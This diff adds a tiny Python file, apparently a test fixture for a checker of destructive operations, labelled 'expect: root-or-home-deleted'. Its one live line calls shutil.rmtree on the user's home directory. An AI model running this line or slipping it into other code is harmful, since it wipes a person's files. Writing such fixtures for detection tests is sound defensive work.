@@ -1,0 +1,5 @@
+import os
+import shutil
+
+# expect: root-or-home-deleted
+shutil.rmtree(os.path.expanduser("~"))
